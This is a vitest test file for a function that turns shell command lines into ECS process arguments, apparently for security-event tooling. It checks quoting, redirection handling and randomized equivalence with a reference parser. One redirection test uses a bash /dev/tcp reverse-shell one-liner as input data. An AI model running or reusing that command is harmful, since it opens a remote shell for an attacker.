import { describe, expect, it } from 'vitest';
import { prng } from '../../../bench/support/generate-rules';
import { commandArgs } from './ecs';

describe('commandArgs (ECS process.args from a command line)', () => {
  it('keeps the words of the first simple command, quotes removed', () => {
    expect(commandArgs(`grep -r 'a b' "/etc" | wc -l`)).toEqual(['grep', '-r', 'a b', '/etc']);
  });

  it('leaves redirections out: operator, file descriptor and target', () => {
    expect(commandArgs('bash -i >& /dev/tcp/203.0.113.66/4444 0>&1')).toEqual(['bash', '-i']);
    expect(commandArgs('find / -name x 2>/dev/null')).toEqual(['find', '/', '-name', 'x']);
    expect(commandArgs('sort <in.txt -u >> out.txt')).toEqual(['sort', '-u']);
    expect(commandArgs('cat <<< "text" -n')).toEqual(['cat', '-n']);
    expect(commandArgs('echo a>b c')).toEqual(['echo', 'a', 'c']);
  });

  it('keeps quoted angle brackets as text', () => {
    expect(commandArgs(`echo '>' "a<b"`)).toEqual(['echo', '>', 'a<b']);
  });
});

/** The definition `commandArgs` keeps: one character at a time, for every line. */
function reference(line: string, max = 256): string[] {
  const words: string[] = [];
  let word = '';
  let inWord = false;
  let quote: '"' | "'" | undefined;
  for (let i = 0; i < line.length && words.length < max; i++) {
    const c = line[i] as string;
    if (quote !== undefined) {
      if (c === quote) quote = undefined;
      else if (c === '\\' && quote === '"' && i + 1 < line.length) word += line[++i];
      else word += c;
      continue;
    }
    if (c === '"' || c === "'") {
      quote = c;
      inWord = true;
    } else if (c === '\\' && i + 1 < line.length) {
      word += line[++i];
      inWord = true;
    } else if (c === ' ' || c === '\t') {
      if (inWord) words.push(word);
      word = '';
      inWord = false;
    } else if (c === '|' || c === ';' || c === '&' || c === '\n') {
      break;
    } else if (c === '<' || c === '>') {
      if (inWord && !/^[0-9]+$/.test(word)) words.push(word);
      word = '';
      inWord = false;
      while (i + 1 < line.length && '<>&'.includes(line[i + 1] as string)) i++;
      while (i + 1 < line.length && (line[i + 1] === ' ' || line[i + 1] === '\t')) i++;
      while (i + 1 < line.length && !' \t|;&<>\n'.includes(line[i + 1] as string)) i++;
    } else {
      word += c;
      inWord = true;
    }
  }
  if (inWord && words.length < max) words.push(word);
  return words;
}

describe('commandArgs, lines with and without quotes, escapes or redirections', () => {
  it('gives what the character-by-character definition gives', () => {
    const random = prng(20261207);
    const pieces = ['ls', '-la', ' ', '  ', '\t', '|', ';', '&', '\n', '\r', '/etc', 'é'];
    pieces.push('\u{1F600}', 'a=b', '"', "'", '\\', '<', '>', '2>', 'x', '--', '#');
    for (let i = 0; i < 20_000; i++) {
      let line = '';
      const length = Math.floor(random() * 12);
      for (let k = 0; k < length; k++) line += pieces[Math.floor(random() * pieces.length)];
      const max = i % 7 === 0 ? Math.floor(random() * 4) : 256;
      expect(commandArgs(line, max), JSON.stringify(line)).toEqual(reference(line, max));
    }
  });
});
